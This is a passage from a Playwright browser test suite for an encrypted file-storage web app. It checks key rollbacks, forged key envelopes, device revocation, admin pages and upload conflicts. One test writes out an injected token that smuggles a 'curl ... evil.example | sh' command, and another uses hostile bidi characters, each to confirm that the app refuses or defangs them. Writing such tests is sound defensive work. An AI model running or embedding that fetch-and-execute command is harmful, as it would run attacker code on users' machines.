  // The same rollback from a server that also withholds the newer envelopes and spells the
  // pouch's id, or the account's, in upper case: the mark is filed under the canonical ids (and
  // the account this browser's keys belong to), so no spelling reaches a fresh, empty mark.
  const lower = S.pouch.id;
  const upper = lower.toUpperCase();
  for (const spelled of ['the pouch id', 'the account id']) {
    await page.route((u) => u.pathname.startsWith('/v1/'), async (route) => {
      const u = new URL(route.request().url());
      const p = u.pathname.replace(upper, lower);
      const answer = async (change) => {
        const res = await route.fetch({ url: `${u.origin}${p}${u.search}` });
        const body = await res.json();
        change(body.data);
        await route.fulfill({ response: res, json: body });
      };
      if (route.request().method() !== 'GET') return route.continue();
      if (p === `/v1/pouches/${lower}`) {
        return answer((d) => { d.key_gen = gen - 1; if (spelled === 'the pouch id') d.id = upper; });
      }
      if (p === `/v1/pouches/${lower}/key-envelopes`) return answer((d) => { d.items = d.items.filter((e) => e.key_gen < gen); });
      if (p === '/v1/account' && spelled === 'the account id') return answer((d) => { d.storage_account_id = d.storage_account_id.toUpperCase(); });
      if (p !== u.pathname) return answer(() => {});
      return route.continue();
    });
    try {
      await page.goto(`${BASE}/pouches/${S.pouch.id}`);
      await page.getByTestId('write-blocked').waitFor();
      const text = await page.getByTestId('write-blocked').textContent();
      ok(text.includes(`key generation ${gen - 1}`) && text.includes('rollback'), `${spelled} in upper case: the banner names the rollback: ${text}`);
      ok(await page.locator('#upload').isDisabled(), `${spelled} in upper case: uploads are off`);
    } finally {
      await page.unrouteAll({ behavior: 'wait' });
    }
  }
  await page.reload();
  await page.getByRole('cell', { name: 'after.txt', exact: true }).waitFor();
  eq('no banner once the generation is back', await page.getByTestId('write-blocked').count(), 0);
  ok(!(await page.locator('#upload').isDisabled()), 'uploads are on again');
});

// The rollback happens after the page loaded (no banner yet): the upload is refused before a
// single chunk is checked or sent, not only when its op is made.
await test('an_upload_to_a_pouch_rolled_back_since_the_page_loaded_sends_nothing', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
  const gen = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen;
  await page.goto(`${BASE}/pouches/${S.pouch.id}`);
  await page.getByText('live updates on').waitFor();
  eq('no banner yet', await page.getByTestId('write-blocked').count(), 0);
  const sent = [];
  await page.route((u) => u.pathname.startsWith(`/v1/pouches/${S.pouch.id}`), async (route) => {
    const req = route.request();
    if (req.method() !== 'GET') {
      sent.push(`${req.method()} ${new URL(req.url()).pathname}`);
      return route.abort();
    }
    if (new URL(req.url()).pathname !== `/v1/pouches/${S.pouch.id}`) return route.continue();
    const res = await route.fetch();
    const body = await res.json();
    body.data.key_gen = gen - 1;
    return route.fulfill({ response: res, json: body });
  });
  try {
    await page.locator('#upload').setInputFiles({ name: 'late.bin', mimeType: 'application/octet-stream', buffer: nodeCrypto.randomBytes(100000) });
    const alert = page.locator('main .error[role=alert]').filter({ hasText: /rollback|could not be reached/ });
    await alert.first().waitFor({ timeout: 30000 });
    eq('nothing sent to the pouch', sent.join(', '), '');
  } finally {
    await page.unrouteAll({ behavior: 'wait' });
  }
});

// The device list is the service's word. A device it lists with this browser's own member must
// not make the browser sign its own removal, nor a revoked one with that member leave this
// browser out of a key rotation.
const decoyDevice = (over) => ({
  id: nodeCrypto.randomUUID(), member_id: S.account.member_id, name: 'decoy-box', os: 'linux', arch: 'x86_64', cli_version: '0.9.0',
  key_storage: 'file', last_seen_at: null, revoked_at: null, rotation_pending: false, created_at: new Date().toISOString(), ...over,
});
const serveDevicesWith = (device) => page.route(/\/v1\/devices(\?.*)?$/, async (route) => {
  const res = await route.fetch();
  const body = await res.json();
  body.data.items = [device, ...body.data.items];
  await route.fulfill({ response: res, json: body });
});

await test('revoking_a_device_the_service_lists_with_this_browsers_member_signs_nothing', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
  const revokes = [];
  await page.route(/\/v1\/devices\/[^/]+\/revoke$/, (route) => { revokes.push(route.request().url()); return route.abort(); });
  await serveDevicesWith(decoyDevice({}));
  const statements = async () => (await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items.length;
  try {
    const before = await statements();
    await page.goto(`${BASE}/devices`);
    await page.getByRole('button', { name: 'Revoke decoy-box' }).click();
    const alert = page.locator('main .error');
    await alert.waitFor({ timeout: 30000 });
    eq('no revoke was sent', revokes.length, 0);
    eq('no roster statement added', await statements(), before);
    ok((await alert.textContent()).includes('lists this browser\'s own member'), `the page says why: ${await alert.textContent()}`);
  } finally {
    await page.unrouteAll({ behavior: 'wait' });
  }
});

await test('a_key_rotation_never_leaves_this_browsers_member_out', ['a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner'], async () => {
  await serveDevicesWith(decoyDevice({ revoked_at: new Date().toISOString(), rotation_pending: true }));
  try {
    const gen = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen;
    await page.goto(`${BASE}/devices`);
    await page.getByRole('button', { name: 'Rotate keys now' }).click();
    for (let i = 0; i < 100 && (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen === gen; i++) await page.waitForTimeout(200);
    const envs = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/key-envelopes?key_gen=${gen + 1}`)).json.data.items;
    eq('the new keys are sealed to this browser\'s member still', envs.map((e) => e.member_id).join(), S.account.member_id);
  } finally {
    await page.unrouteAll({ behavior: 'wait' });
  }
});

// A connect token goes into a command the person pastes into a shell: the page shows none but
// the service's own form ("svc_lt_" and 32 b64url characters).
await test('the_connect_page_puts_only_a_well_formed_token_into_the_command', ['onboarding_makes_keys_kit_roster_and_first_pouch'], async () => {
  await page.route(/\/v1\/cli-auth\/connect-tokens$/, (route) => route.fulfill({
    status: 200, contentType: 'application/json',
    body: JSON.stringify({ ok: true, data: { connect_token: 'svc_lt_x; curl https://evil.example/x | sh', expires_in: 600 } }),
  }));
  try {
    await page.goto(`${BASE}/cli/connect`);
    await page.getByRole('button', { name: 'Make a connect token' }).click();
    await page.locator('main .error, #connect-command').first().waitFor();
    eq('no command shown', await page.locator('#connect-command').count(), 0);
    ok(await page.getByText('a connect token of another form').count() === 1, 'the page says why');
  } finally {
    await page.unrouteAll({ behavior: 'wait' });
  }
  await page.getByRole('button', { name: 'Make a connect token' }).click();
  ok(/^pouch login --connect-token svc_lt_[A-Za-z0-9_-]{32}$/.test(await page.locator('#connect-command').inputValue()), 'the service\'s own token is shown');
});

// Text the service answers on the devices page (here rewritten on its way, as a malicious
// server or a device's own choice of name could make it): control and bidi characters are shown
// as U+FFFD, and every such text sits in its own <bdi>, so a right-to-left name cannot reorder
// the row around it.
await test('the_devices_page_shows_the_services_text_defanged_and_isolated', ['revoking_a_device_rotates_keys_and_the_device_gets_401'], async () => {
  const hostile = {
    id: nodeCrypto.randomUUID(), member_id: nodeCrypto.randomUUID(), name: 'laptop\u202Etxt.exe', os: '\u05DC\u05D9\u05E0\u05D5\u05E7\u05E1 linux',
    arch: 'x86_64\u2066', cli_version: '0.9.0\u001B[8m', key_storage: 'file\u200F', last_seen_at: null, revoked_at: null,
    rotation_pending: false, created_at: new Date().toISOString(),
  };
  await page.route(/\/v1\/devices(\?.*)?$/, async (route) => {
    const res = await route.fetch();
    const body = await res.json();
    body.data.items = [hostile, ...body.data.items];
    await route.fulfill({ response: res, json: body });
  });
  try {
    await page.goto(`${BASE}/devices`);
    const name = page.locator('tbody tr').first().locator('td').first();
    await name.waitFor();
    eq('the name, defanged', await name.textContent(), 'laptop\uFFFDtxt.exe');
    const cells = await page.evaluate(() => [...document.querySelectorAll('tbody tr')][0].innerHTML);
    eq('every text of the service in the row is in a <bdi> of its own', (cells.match(/<bdi>/g) || []).length, 5);
    const text = await page.locator('main').textContent();
    ok(!/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/.test(text), 'no control or bidi character on the page');
    eq('the Revoke button names the device without them', await page.getByRole('button', { name: 'Revoke laptop\uFFFDtxt.exe' }).count(), 1);
  } finally {
    await page.unrouteAll({ behavior: 'wait' });
  }
});

// The service lists a file with the head revision of another file: that revision is not shown
// under this file's id (a delete or a replacement would name the wrong file).
await test('a_file_listed_with_another_files_revision_is_not_opened', ['upload_then_download_5mb_and_a_small_file'], async () => {
  await page.route(new RegExp(`/v1/pouches/${S.pouch.id}/artifacts(\\?.*)?$`), async (route) => {
    const res = await route.fetch();
    const body = await res.json();
    const [a, b] = body.data.items;
    body.data.items = [{ ...a, head: b.head }, ...body.data.items.slice(1)];
    await route.fulfill({ response: res, json: body });
  });
  try {
    await page.goto(`${BASE}/pouches/${S.pouch.id}`);
    await page.getByText('the service lists it with a revision of another file').waitFor();
    const rows = await page.locator('table.files tbody tr').count();
    const deletes = await page.getByRole('button', { name: /^Delete / }).count();
    eq('every other file is listed with its Delete button', deletes, rows - 1);
  } finally {
    await page.unrouteAll({ behavior: 'wait' });
  }
});

// A removed member's keys leaked: it forges the key of a new pouch (generation 1, below the
// rotated_to 2 of its removal, so a reader still takes it), and the server serves it as the
// browser's. The pouch page reads but writes nothing under it; approving a CLI login refuses
// too, since the new device would get that key re-sealed by this member, its origin lost.
await test('approving_a_login_never_reseals_a_key_a_removed_member_made', ['revoking_a_device_rotates_keys_and_the_device_gets_401'], async () => {
  await page.goto(`${BASE}/pouches`);
  await page.getByRole('button', { name: 'New pouch' }).click();
  await page.waitForURL(/\/pouches\/[0-9a-f-]{36}$/);
  const pouchId = page.url().split('/').pop();
  await page.getByText('No files yet').waitFor();
  const roster = await W.verifyRoster((await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items);
  const removed = roster.members.get(S.removed.memberId);
  eq('the forger was removed at generation 2', `${removed.removed_seq !== null} ${removed.rotated_to}`, 'true 2');
  const forged = await W.sealKeyEnvelope({
    pouchId, memberId: S.account.member_id, keyGen: 1, pouchKey: nodeCrypto.randomBytes(32),
    encPub: roster.members.get(S.account.member_id).enc_pub, creatorId: S.removed.memberId,
    creatorSignKey: (await WP.importSigningPair(S.removed.signPriv)).privateKey,
  });
  const approvals = [];
  await page.route(new RegExp(`/v1/pouches/${pouchId}/key-envelopes`), async (route) => {
    if (route.request().method() !== 'GET') return route.continue();
    const res = await route.fetch();
    const body = await res.json();
    body.data.items = body.data.items.map((e) => (e.key_gen === 1 ? forged : e));
    await route.fulfill({ response: res, json: body });
  });
  await page.route(/\/v1\/cli-auth\/requests\/[0-9a-f-]{36}\/approve$/, (route) => {
    approvals.push(route.request().postData());
    return route.abort();
  });
  const cli = new Cli(W, WP, 'launder-box');
  try {
    await page.reload();
    await page.getByTestId('write-blocked').waitFor();
    const banner = await page.getByTestId('write-blocked').textContent();
    ok(/made by a (removed member|member since removed)/.test(banner), `the pouch page writes nothing under the forged key: ${banner}`);
    ok(await page.locator('#upload').isDisabled(), 'uploads are off');
    const shown = await cli.start();
    await page.goto(shown.link);
    await page.getByLabel('Type the code your terminal shows').fill(shown.code);
    await page.getByRole('button', { name: 'Approve' }).click();
    const refused = page.locator('form [role=alert]');
    await refused.waitFor({ timeout: 30000 });
    await shot(page, 'cli-approve-refused-removed-key');
    eq('no approval was sent', approvals.length, 0);
    ok((await refused.textContent()).includes('made by a member since removed'), `the page says why: ${await refused.textContent()}`);
    eq('the login is still pending', (await apiAs(S.token, 'GET', `/v1/cli-auth/requests/${shown.requestId}`)).json.data.status, 'pending');
    await page.getByRole('button', { name: 'Deny' }).click();
    await page.getByText('Denied.').waitFor();
    // What the message says to do: a key rotation from the devices page ends the wait.
    await page.goto(`${BASE}/devices`);
    await page.getByRole('button', { name: 'Rotate keys now' }).click();
    await page.getByText('Every pouch now has new keys').waitFor({ timeout: 30000 });
    await page.goto(`${BASE}/pouches/${pouchId}`);
    await page.getByText('key generation 2').waitFor();
    await page.getByText('live updates on').waitFor();
    eq('no banner once the keys are rotated', await page.getByTestId('write-blocked').count(), 0);
  } finally {
    await page.unrouteAll({ behavior: 'wait' });
    cli.cleanup();
  }
});

// The pouch list counts what a person calls changes: files added, changed or deleted, not the
// roster and key events (a CLI login, a device revoked, key rotations) that share the log.
await test('the_pouch_list_counts_file_changes_not_key_or_device_events', ['revoking_a_device_rotates_keys_and_the_device_gets_401'], async () => {
  const listed = (await apiAs(S.token, 'GET', '/v1/pouches')).json.data.items.find((p) => p.id === S.pouch.id);
  const revisions = Number(psql(`SELECT count(*) FROM events WHERE pouch_id = '${S.pouch.id}' AND kind = 'revision'`));
  ok(revisions >= 2, `the uploads are revision events (${revisions})`);
  eq('file_changes of the pouch', listed.file_changes, revisions);
  ok(listed.high_water > revisions, `the log holds more than the file changes (high_water ${listed.high_water})`);
  eq('GET one pouch agrees', (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.file_changes, revisions);
  await page.goto(`${BASE}/pouches`);
  const item = page.getByRole('list', { name: 'Your pouches' }).getByRole('listitem').first();
  await item.waitFor();
  ok((await item.textContent()).includes(` · ${revisions} file changes · `), `the list says ${revisions} file changes: ${await item.textContent()}`);
  ok(!(await item.textContent()).includes(`${listed.high_water} changes`), 'not the event count');
  await shot(page, 'pouches-file-changes');
});

await test('restore_on_a_new_browser_from_the_recovery_kit', ['onboarding_makes_keys_kit_roster_and_first_pouch'], async () => {
  const c = await newContext();
  const p = watch(await c.newPage());
  await p.goto(`${BASE}/login`);
  await p.getByLabel('Email').fill(email);
  await p.getByLabel('Password').fill('correct horse battery');
  await p.getByRole('button', { name: 'Log in' }).click();
  await p.getByRole('heading', { name: 'Restore on this browser' }).waitFor();
  const kitFile = path.join(OUT, '..', 'kit-for-restore.json');
  fs.writeFileSync(kitFile, JSON.stringify(S.kit));
  await p.getByLabel('Recovery kit file').setInputFiles(kitFile);
  await p.getByLabel('Recovery code').fill('AAAA-AAAA-AAAA-AAAA-AAAA-AAAA-AAAA-AAAA');
  await p.getByRole('button', { name: 'Restore keys' }).click();
  await p.getByText('the recovery code does not open this kit').waitFor();
  await p.getByLabel('Recovery code').fill(S.code);
  await shot(p, 'restore');
  await p.getByRole('button', { name: 'Restore keys' }).click();
  await p.getByRole('link', { name: 'Pouch 1' }).waitFor();
  await p.getByRole('link', { name: 'Pouch 1' }).click();
  await p.getByRole('cell', { name: 'hello.txt', exact: true }).waitFor({ timeout: 30000 });
  fs.rmSync(kitFile);
  S.other = { c, p };            // a second browser of the same account, for the steps below
});

// Links made on the first browser, listed on the second: their names are sealed with keys only
// the first keeps, so the list says which pouch, how big and when, and why no name.
await test('share_links_made_on_another_browser_show_pouch_size_and_time', ['restore_on_a_new_browser_from_the_recovery_kit', 'share_link_opens_without_session_and_one_time_link_once'], async () => {
  const { c, p } = S.other;
  try {
    await p.getByRole('link', { name: 'Shares' }).click();
    await p.getByRole('heading', { name: 'Share links' }).waitFor();
    const shares = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/shares`)).json.data.items;
    ok(shares.length >= 2, `shares listed: ${shares.length}`);
    for (const sh of shares) {
      const row = p.getByTestId(`share-${sh.id}`);
      const unnamed = row.getByTestId('share-unnamed');
      await unnamed.waitFor();
      const text = (await unnamed.textContent()).replace(/\s+/g, ' ');
      ok(/^A file \([0-9.]+ (B|KiB) sealed\) from Pouch 1 · name known only to the browser that made the link$/.test(text), `row text: ${text}`);
      ok(!/sealed \([0-9a-f]{8}\)/.test(await row.textContent()), 'no bare id as the name');
      eq('the pouch link', await row.getByRole('link', { name: 'Pouch 1' }).getAttribute('href'), `/pouches/${S.pouch.id}`);
      eq('made', await row.locator('td[data-label="Made"]').textContent(), await p.evaluate((iso) => new Date(iso).toLocaleString(), sh.created_at));
    }
    await p.getByText('Some links were made on another browser or device.').waitFor();
    await shot(p, 'shares-second-browser');
  } finally {
    await c.close();
  }
});

await test('admin_pages_refuse_a_non_admin_and_serve_an_admin', ['onboarding_makes_keys_kit_roster_and_first_pouch'], async () => {
  await page.goto(`${BASE}/admin`);
  await page.getByText('This page is for administrators').waitFor();
  eq('no Admin link for a user', await page.getByRole('link', { name: 'Admin' }).count(), 0);
  await shot(page, 'admin-refused');
  const refused = await apiAs(S.token, 'GET', '/v1/admin/plans');
  eq('service refuses a non-admin', `${refused.status} ${refused.json.error?.code}`, '403 forbidden');
  execFileSync(process.env.POUCHCTL, ['user', 'role', email, 'admin', '--reason', 'browser suite'], { encoding: 'utf8' });
  await page.reload();
  await page.getByRole('link', { name: 'Admin' }).waitFor();
  await page.getByRole('heading', { name: 'Plans' }).waitFor();
  const plans = (await apiAs(S.token, 'GET', '/v1/admin/plans')).json.data.items;
  const plan = plans.find((p) => p.is_default);
  const form = page.getByRole('form', { name: `Plan ${plan.slug}` });
  await form.getByLabel('Pouch limit').fill(String(plan.pouch_limit + 1));
  await form.getByLabel('Reason').fill('browser suite raises the limit');
  await form.getByRole('button', { name: 'Save plan' }).click();
  await page.getByText(`Plan “${plan.slug}” saved.`).waitFor();
  const after = (await apiAs(S.token, 'GET', `/v1/admin/plans/${plan.id}`)).json.data;
  eq('plan edited', after.pouch_limit, plan.pouch_limit + 1);
  await page.getByRole('button', { name: 'Refresh' }).click();
  await page.getByRole('cell', { name: 'browser suite raises the limit' }).first().waitFor();
  await shot(page, 'admin');
  // A submit clears the result of the one before: a refusal never stands beside an old success.
  const role = page.getByRole('region', { name: "Set a user's role" });
  eq('the role form asks for no id', await role.getByLabel('User id').count(), 0);
  await role.getByLabel('E-mail').fill(` ${email.toUpperCase()} `);
  await role.getByLabel('Role').selectOption('admin');
  await role.getByRole('button', { name: 'Set role' }).click();
  await role.getByText(`${email}: role unchanged (admin).`).waitFor();
  const nobody = `nobody.${nodeCrypto.randomUUID().slice(0, 8)}@example.com`;
  await role.getByLabel('E-mail').fill(nobody);
  await role.getByRole('button', { name: 'Set role' }).click();
  await role.getByRole('alert').filter({ hasText: `No account has the e-mail “${nobody}”.` }).waitFor();
  eq('role notices beside the refusal', await role.locator('p.notice').count(), 0);
  await shot(page, 'admin-role-refused');
  eq('no user was changed', (await apiAs(S.token, 'GET', '/v1/account')).json.data.role, 'admin');
  // Another person, found by e-mail, promoted then demoted; then this admin, the last one,
  // demotes itself: the refusal stands alone, not beside the green of the change before.
  const bob = `bob.${nodeCrypto.randomUUID().slice(0, 8)}@example.com`;
  eq('bob signs up', (await fetch(`${BASE}/v1/account/signup`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ email: bob, password: 'correct horse battery' }) })).status, 201);
  psql(`UPDATE users SET role = 'user' WHERE role = 'admin' AND email <> '${email}'`);
  await role.getByLabel('E-mail').fill(bob);
  await role.getByRole('button', { name: 'Set role' }).click();
  await role.getByText(`${bob}: role changed from user to admin.`).waitFor();
  await role.getByLabel('Role').selectOption('user');
  await role.getByLabel('Reason').fill('back to user');
  await role.getByRole('button', { name: 'Set role' }).click();
  await role.getByText(`${bob}: role changed from admin to user.`).waitFor();
  await role.getByLabel('E-mail').fill(email);
  await role.getByLabel('Reason').fill('');
  await role.getByRole('button', { name: 'Set role' }).click();
  await role.getByRole('alert').filter({ hasText: 'This is the last administrator' }).waitFor();
  eq('a green notice beside the last-admin refusal', await role.locator('p.notice').count(), 0);
  await shot(page, 'admin-last-admin-refused');
  eq('still admin', (await apiAs(S.token, 'GET', '/v1/account')).json.data.role, 'admin');
  // The audit log in words: people by e-mail, actions named, changes readable.
  await page.getByRole('button', { name: 'Refresh' }).click();
  const audit = (await apiAs(S.token, 'GET', '/v1/admin/audit?limit=5')).json.data.items;
  const last = page.getByTestId(`audit-${audit[0].id}`);
  await last.waitFor();
  eq('who', await last.locator('td[data-label="Who"]').textContent(), email);
  eq('what', await last.locator('td[data-label="What"]').textContent(), `Role change of ${bob}`);
  eq('change', await last.locator('td[data-label="Change"]').textContent(), 'role: admin → user');
  eq('reason', await last.locator('td[data-label="Reason"]').textContent(), 'back to user');
  const planRow = page.getByTestId(`audit-${audit.find((a) => a.action === 'plan.update').id}`);
  eq('plan what', await planRow.locator('td[data-label="What"]').textContent(), `Plan change of ${plan.slug}`);
  eq('plan change', await planRow.locator('td[data-label="Change"]').textContent(), `pouch limit: ${plan.pouch_limit} → ${plan.pouch_limit + 1}`);
  const operatorRow = page.getByRole('row').filter({ hasText: 'browser suite' }).filter({ hasText: 'the operator (pouchctl)' });
  eq('pouchctl shown as the operator', await operatorRow.count(), 1);
  ok(!/[0-9a-f]{8}-[0-9a-f]{4}-/.test(await page.getByRole('region', { name: 'Audit log' }).locator('tbody tr').first().textContent()), 'no bare uuid in the newest record');
  ok(!/\{"/.test(await page.getByRole('region', { name: 'Audit log' }).textContent()), 'no raw JSON in the audit log');
  await page.getByRole('region', { name: 'Audit log' }).scrollIntoViewIfNeeded();
  await shot(page, 'admin-audit');
  // The same for plans: one past the service's pouch limit (INT_MAX) is refused by the service.
  await form.getByLabel('Pouch limit').fill('2147483648');
  await form.getByRole('button', { name: 'Save plan' }).click();
  await page.getByRole('region', { name: 'Plans' }).getByRole('alert').waitFor();
  eq('"saved" beside the refused save', await page.getByText(`Plan “${plan.slug}” saved.`).count(), 0);
  eq('the refused save stored nothing', (await apiAs(S.token, 'GET', `/v1/admin/plans/${plan.id}`)).json.data.pouch_limit, plan.pouch_limit + 1);
  // Put the plan back for the suites that follow.
  const back = await apiAs(S.token, 'PUT', `/v1/admin/plans/${plan.id}`, { pouch_limit: plan.pouch_limit, name: plan.name, storage_bytes: plan.storage_bytes, is_active: plan.is_active });
  eq('plan restored', back.status, 200);
});

// The storage hint follows the field as it is typed, and a save that does not touch the field
// keeps the stored byte count exactly (a limit the field's 0.001 GiB cannot show survives a rename).
await test('plan_storage_hint_follows_the_field_and_a_rename_keeps_the_exact_limit', ['admin_pages_refuse_a_non_admin_and_serve_an_admin'], async () => {
  const plans = (await apiAs(S.token, 'GET', '/v1/admin/plans')).json.data.items;
  const plan = plans.find((p) => p.is_default);
  const odd = 1073741824 + 123457;     // 1 GiB + 120.6 KiB: the field shows 1.
  eq('odd limit set', (await apiAs(S.token, 'PUT', `/v1/admin/plans/${plan.id}`, { storage_bytes: odd })).status, 200);
  try {
    await page.goto(`${BASE}/admin`);
    const form = page.getByRole('form', { name: `Plan ${plan.slug}` });
    const field = form.getByLabel('Storage (GiB)');
    await field.waitFor();
    eq('the field', await field.inputValue(), '1');
    const hint = form.locator(`#storage-${plan.slug}-hint`);
    eq('hint at first', await hint.textContent(), 'Now 1.0 GiB.');
    await field.fill('2.5');
    eq('hint while typing', await hint.textContent(), 'Now 1.0 GiB; after saving 2.5 GiB (2,684,354,560 bytes).');
    await shot(page, 'admin-plan-hint');
    await field.fill('1');
    eq('hint back', await hint.textContent(), 'Now 1.0 GiB.');
    await form.getByLabel('Name').fill(`${plan.name} renamed`);
    await form.getByRole('button', { name: 'Save plan' }).click();
    await page.getByText(`Plan “${plan.slug}” saved.`).waitFor();
    const after = (await apiAs(S.token, 'GET', `/v1/admin/plans/${plan.id}`)).json.data;
    eq('renamed', after.name, `${plan.name} renamed`);
    eq('storage limit kept exactly', after.storage_bytes, odd);
    await field.fill('2.5');
    await form.getByRole('button', { name: 'Save plan' }).click();
    await page.getByText(`Plan “${plan.slug}” saved.`).waitFor();
    eq('an edited field is what is stored', (await apiAs(S.token, 'GET', `/v1/admin/plans/${plan.id}`)).json.data.storage_bytes, 2684354560);
    await form.locator(`#storage-${plan.slug}-hint`).filter({ hasText: 'Now 2.5 GiB.' }).waitFor();
  } finally {
    const back = await apiAs(S.token, 'PUT', `/v1/admin/plans/${plan.id}`, { name: plan.name, storage_bytes: plan.storage_bytes });
    eq('plan restored', back.status, 200);
  }
});

// Every signed-in person sees their plan, its limits and what they use.
await test('the_account_page_shows_plan_limits_and_usage', ['upload_then_download_5mb_and_a_small_file'], async () => {
  await page.goto(`${BASE}/pouches`);
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Account' }).click();
  await page.getByRole('heading', { name: 'Your account' }).waitFor();
  eq('address', new URL(page.url()).pathname, '/account');
  const a = (await apiAs(S.token, 'GET', '/v1/account')).json.data;
  const facts = await page.locator('dl.facts').textContent();
  ok(facts.includes(a.plan.name) && facts.includes(email), `plan and e-mail shown: ${facts}`);
  const storage = await page.locator('label[for="storage-meter"]').textContent();
  ok(/^[0-9.]+ MiB of [0-9.]+ GiB used \(([0-9]+|less than 1) %\)$/.test(storage), `storage words: ${storage}`);
  ok(storage.includes(`of ${(a.plan.storage_bytes / 1024 ** 3).toFixed(1)} GiB`), `the limit: ${storage}`);
  eq('pouches', await page.locator('label[for="pouch-meter"]').textContent(), `${a.usage.pouches} of ${a.plan.pouch_limit} pouches`);
  eq('meter value', Number(await page.locator('#storage-meter').getAttribute('value')), a.usage.stored_bytes + a.usage.reserved_bytes);
  await shot(page, 'account');
  // Direct address: nginx serves the app there.
  eq('GET /account', (await fetch(`${BASE}/account`)).status, 200);
});

await test('phone_width_and_keyboard_only', ['upload_then_download_5mb_and_a_small_file'], async () => {
  const c = await newContext({ viewport: { width: 390, height: 844 }, isMobile: true });
  const p = watch(await c.newPage());
  await p.goto(`${BASE}/login`);
  // Keyboard only: Tab moves through the form in order, Enter submits.
  await p.getByLabel('Email').focus();
  await p.keyboard.type(email);
  await p.keyboard.press('Tab');
  eq('Tab from Email', await p.evaluate(() => document.activeElement.id), 'password');
  await p.keyboard.type('correct horse battery');
  await p.keyboard.press('Tab');
  eq('Tab from Password', await p.evaluate(() => document.activeElement.textContent), 'Log in');
  await p.keyboard.press('Enter');
  await p.getByRole('heading', { name: 'Restore on this browser' }).waitFor();
  await shot(p, 'restore-phone');
  const wide = await p.evaluate(() => document.documentElement.scrollWidth);
  ok(wide <= 390, `no sideways scrolling at phone width (${wide} px)`);
  await c.close();
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`${BASE}/pouches/${S.pouch.id}`);
  await page.getByText('hello.txt', { exact: true }).waitFor();
  await shot(page, 'pouch-phone');
  const wide2 = await page.evaluate(() => document.documentElement.scrollWidth);
  ok(wide2 <= 390, `pouch page fits a phone (${wide2} px)`);
  await page.setViewportSize({ width: 1100, height: 760 });
});

// Two tabs of one browser on one pouch. Tab A's live updates are held back, so it still
// shows the old hello.txt when tab B saves a new one; A's upload then answers stale_base
// and the web app keeps both: B's version stays hello.txt, A's becomes the conflict copy
// (CLIENT-FORMAT "Conflicts": a new artifact, null base, conflict_id = the winning head).
await test('a_stale_upload_keeps_both_versions_as_a_conflict_copy', ['upload_then_download_5mb_and_a_small_file'], async () => {
  const eventsPath = new RegExp(`/v1/pouches/${S.pouch.id}/events`);
  const a = watch(await ctx.newPage());
  const b = watch(await ctx.newPage());
  try {
    await a.route(eventsPath, () => {});          // held: never answered
    await a.goto(`${BASE}/pouches/${S.pouch.id}`);
    await a.getByRole('cell', { name: 'hello.txt', exact: true }).waitFor({ timeout: 30000 });
    const list = async () => (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/artifacts`)).json.data.items;
    const before = new Map((await list()).map((x) => [x.id, x.head.id]));

    const theirs = Buffer.from('Their version, saved in tab B.\n');
    await b.goto(`${BASE}/pouches/${S.pouch.id}`);
    await b.getByRole('cell', { name: 'hello.txt', exact: true }).waitFor({ timeout: 30000 });
    await b.locator('#upload').setInputFiles([{ name: 'hello.txt', mimeType: 'text/plain', buffer: theirs }]);
    let changed = [];
    for (let i = 0; i < 150 && changed.length === 0; i++) {
      changed = (await list()).filter((x) => before.has(x.id) && before.get(x.id) !== x.head.id);
      if (!changed.length) await a.waitForTimeout(200);
    }
    eq('artifacts changed by tab B', changed.length, 1);
    const hello = changed[0];
    eq('tab B saved on top of the old head', hello.head.base_revision_id, before.get(hello.id));

    const mine = Buffer.from('My version, saved in tab A from a stale view.\n');
    await a.locator('#upload').setInputFiles([{ name: 'hello.txt', mimeType: 'text/plain', buffer: mine }]);
    const day = new Date().toISOString().slice(0, 10);
    const copyName = `hello (conflict web ${day}).txt`;
    await a.getByText(`hello.txt was changed elsewhere meanwhile; your version was kept as “${copyName}”.`).waitFor({ timeout: 30000 });
    await a.getByRole('cell', { name: copyName, exact: true }).waitFor();
    await shot(a, 'conflict-copy');

    const after = await list();
    eq('artifacts after the conflict', after.length, before.size + 1);
    const copy = after.find((x) => !before.has(x.id));
    eq('conflict copy: conflict_id', copy.head.conflict_id, hello.head.id);
    eq('conflict copy: base', copy.head.base_revision_id, null);
    eq('conflict copy: kind', copy.head.kind, 'put');
    eq('hello.txt keeps tab B\'s head', after.find((x) => x.id === hello.id).head.id, hello.head.id);

    const [d1] = await Promise.all([a.waitForEvent('download'), a.getByRole('button', { name: `Download ${copyName}` }).click()]);
    ok(fs.readFileSync(await d1.path()).equals(mine), 'the conflict copy holds tab A\'s bytes');
    const [d2] = await Promise.all([a.waitForEvent('download'), a.getByRole('button', { name: 'Download hello.txt' }).click()]);
    ok(fs.readFileSync(await d2.path()).equals(theirs), 'hello.txt holds tab B\'s bytes');
  } finally {
    await a.unrouteAll({ behavior: 'ignoreErrors' }).catch(() => {});
    await a.close();
    await b.close();
  }
});

// Live updates say enough (docs/SYNC.md, the events extension): a tab applies what another tab
// saves from the event log alone -- no reload of the pouch or of its list, no read per file --
// and reads one by one only the revisions an event does not bring; a brought revision is
// verified as a listed one (a changed signature: the file cannot be opened).
await test('live_updates_apply_the_events_without_reading_the_list_again', ['upload_then_download_5mb_and_a_small_file'], async () => {
  const a = watch(await ctx.newPage());
  const b = watch(await ctx.newPage());
  const seen = [];
  a.on('request', (r) => {
    const u = new URL(r.url());
    if (u.pathname.startsWith('/v1/')) seen.push(`${r.method()} ${u.pathname}`);
  });
  const upload = async (names) => {
